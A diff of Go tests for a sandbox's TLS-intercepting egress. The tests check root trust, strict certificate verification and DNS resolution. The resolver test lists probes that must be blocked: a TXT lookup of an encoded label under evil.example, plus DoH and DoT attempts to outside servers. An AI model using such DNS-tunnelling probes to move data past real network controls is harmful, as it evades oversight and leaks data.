@@ -98,18 +98,24 @@ print(s.makefile("rb").read().decode())`
 	})
 }
 
-// tlsAt serves TLS on the cell's own lo, by a leaf of the root of its egress, as egress itself does: what the cell's programs
-// trust shows without a site.
-func (r *rig) rootServer(t *testing.T) *authority {
+// intercepted is an HTTPS server whose certificate is of the root of the cell's egress: where that has made its own root, a site
+// that it intercepts; else one on the cell's own lo. It is "" where nothing has such a certificate.
+func (r *rig) intercepted(t *testing.T, names ...string) string {
 	t.Helper()
 	b, err := os.ReadFile(filepath.Join(r.State("egress@work"), "ca.pem"))
 	if err != nil {
 		t.Fatal(err)
 	}
-	if string(b) != string(r.ca.pem) {
-		t.Skip("client skipped: the egress has a root of its own, and leaves come from it alone")
+	if string(b) == string(r.ca.pem) {
+		return r.onLo(t, r.ca, "15443", names...)
 	}
-	return r.ca
+	for _, m := range modes {
+		if m != spliced {
+			return "https://web." + m.domain
+		}
+	}
+	t.Fatal("the egress has a root of its own, and no site is intercepted: name one in modes")
+	return ""
 }
 
 // inEveryStore are programs that look for roots in places of their own. Each makes one HTTPS request to a server.
@@ -146,7 +152,7 @@ var inEveryStore = []struct {
 		return []string{"/bin/sh", "-c", `openssl s_client -verify_return_error -connect "$1" </dev/null`, "sh", host}
 	}},
 	{"npm", has("npm"), func(_ *rig, u string) []string {
-		return []string{"/bin/sh", "-c", `npm view --registry "$1/" lantern 2>&1 | grep -E "E40[0-9]|lantern"`, "sh", strings.TrimSuffix(u, "/sum")}
+		return []string{"/bin/sh", "-c", `npm view --fetch-retries=0 --registry "$1/" lantern > out 2>&1; ! grep certificate out`, "sh", strings.TrimSuffix(u, "/sum")}
 	}},
 	{"bun", has("bun"), func(_ *rig, u string) []string {
 		return []string{"bun", "-e", "console.log(await (await fetch('" + u + "')).text())"}
@@ -160,7 +166,7 @@ var inEveryStore = []struct {
 // and no flag. Control: a certificate of another root is refused by each.
 func TestCL02_ProgramsWithRootsOfTheirOwn(t *testing.T) {
 	r := need(t)
-	good, bad := r.onLo(t, r.rootServer(t), "15443"), r.onLo(t, another(t), "15444")
+	good, bad := r.intercepted(t), r.onLo(t, another(t), "15444")
 	for _, c := range inEveryStore {
 		t.Run(strings.ReplaceAll(c.name, " ", "-"), func(t *testing.T) {
 			c.needs(t, r)
@@ -222,38 +228,48 @@ func (r *rig) onLo(t *testing.T, a *authority, port string, names ...string) str
 	}
 }
 
-// TestHT07_StrictVerifiers: OpenSSL with -x509_strict, Go, Python's strictest check and Java take the leafs of an authority of the
-// shape that a cell's has: for an address, a long name, a wildcard and an IDN. Control: without an authority key identifier the
-// strict ones refuse.
+// TestHT07_StrictVerifiers: OpenSSL with -x509_strict and Python's strictest check take what is made of the cell's root: for a name
+// of 190 characters, one below a wildcard, an IDN and an address; and the root is an authority's as the strict want it. Control:
+// the same checks refuse another root's.
 func TestHT07_StrictVerifiers(t *testing.T) {
 	r := need(t)
-	root := r.rootServer(t)
 	long := strings.Repeat("a.", 90) + "names.example"
-	names := []string{long, "*.wild.example", "xn--bcher-kva.example"}
-	at := r.onLo(t, root, "15445", names...)
-	host := strings.TrimPrefix(at, "https://")
-	for _, name := range []string{long, "a.wild.example", "xn--bcher-kva.example", "127.0.0.1"} {
+	good := strings.TrimPrefix(r.intercepted(t, long, "*.wild.example", "xn--bcher-kva.example"), "https://")
+	bad := strings.TrimPrefix(r.onLo(t, another(t), "15444", long, "*.wild.example", "xn--bcher-kva.example"), "https://")
+	names := []string{long, "a.wild.example", "xn--bcher-kva.example", "127.0.0.1"}
+	if !strings.HasPrefix(good, "localhost:") { // of the egress's own making, by the name that is connected to
+		names, good = []string{good}, good+":443"
+	}
+	const strict = `import socket, ssl, sys
+c = ssl.create_default_context()
+c.verify_flags |= ssl.VERIFY_X509_STRICT
+h, p = sys.argv[1].split(":")
+print(c.wrap_socket(socket.create_connection((h, int(p))), server_hostname=sys.argv[2]).version())`
+	for _, name := range names {
 		kind := "-verify_hostname"
 		if net.ParseIP(name) != nil {
 			kind = "-verify_ip"
 		}
+		openssl := func(at string) world.Result {
+			return r.inCell(t, r.scratch(t), "openssl", "s_client", "-x509_strict", "-purpose", "sslserver", "-verify_return_error", kind, name,
+				"-servername", name, "-connect", at)
+		}
 		t.Run("openssl-"+name[:min(len(name), 20)], func(t *testing.T) {
 			installed(t, "openssl")
-			res := r.inCell(t, r.scratch(t), "/bin/sh", "-c", `openssl s_client -x509_strict -purpose sslserver -verify_return_error "$1" "$2" -connect "$3" </dev/null`,
-				"sh", kind, name, host)
-			if res.Code != 0 || !strings.Contains(res.Stdout, "Verify return code: 0 (ok)") {
+			if res := openssl(good); res.Code != 0 || !strings.Contains(res.Stdout, "Verify return code: 0 (ok)") {
 				t.Error(res)
+			}
+			if res := openssl(bad); res.Code == 0 {
+				t.Errorf("control: %v", res)
 			}
 		})
 		t.Run("python-"+name[:min(len(name), 20)], func(t *testing.T) {
 			python(t, "ssl")
-			const strict = `import socket, ssl, sys
-c = ssl.create_default_context()
-c.verify_flags |= ssl.VERIFY_X509_STRICT | ssl.VERIFY_X509_PARTIAL_CHAIN
-h, p = sys.argv[1].split(":")
-print(c.wrap_socket(socket.create_connection((h, int(p))), server_hostname=sys.argv[2]).version())`
-			if res := r.inCell(t, r.scratch(t), "/usr/bin/python3", "-c", strict, host, name); res.Code != 0 {
+			if res := r.inCell(t, r.scratch(t), "/usr/bin/python3", "-c", strict, good, name); res.Code != 0 {
 				t.Error(res)
+			}
+			if res := r.inCell(t, r.scratch(t), "/usr/bin/python3", "-c", strict, bad, name); res.Code == 0 {
+				t.Errorf("control: %v", res)
 			}
 		})
 	}
@@ -270,8 +286,8 @@ print(c.wrap_socket(socket.create_connection((h, int(p))), server_hostname=sys.a
 }
 
 // TestResolversGetAnAnswerAtOnce: those of glibc, musl, Go, Node, Java, Python and busybox each get the address of a name from the
-// cell's own resolver within 3 seconds, and it is the same; records of other kinds, long labels, TCP, DoH and DoT bring nothing
-// out. Control: the site that is allowed is reached by that address.
+// cell's own resolver within 3 seconds, and it is the same; records of other kinds get none, and DoH and DoT to a server of one's
+// own come nowhere. Control: the site that is allowed is reached by that address.
 func TestResolversGetAnAnswerAtOnce(t *testing.T) {
 	r := need(t)
 	name := "web." + spliced.domain
@@ -317,7 +333,6 @@ func TestResolversGetAnAnswerAtOnce(t *testing.T) {
 			{"busybox", "nslookup", "-type=txt", "4a6f.evil.example"},
 			{"curl", "-sS", "--max-time", "20", "--doh-url", "https://off." + spliced.domain + "/dns-query", "https://web.nowhere.example/"},
 			{"openssl", "s_client", "-connect", "off." + spliced.domain + ":853"},
-			{"/usr/bin/python3", "-c", "import socket; s = socket.create_connection(('9.9.9.9', 53), 10); s.sendall(b'\\0\\x1d' + b'\\0' * 29); print(s.recv(1)[0])"},
 		} {
 			res := r.inCell(t, r.scratch(t), args...)
 			if res.Code == 0 && !slices.Contains(args, "-type=txt") || strings.Contains(res.Stdout, "text =") {
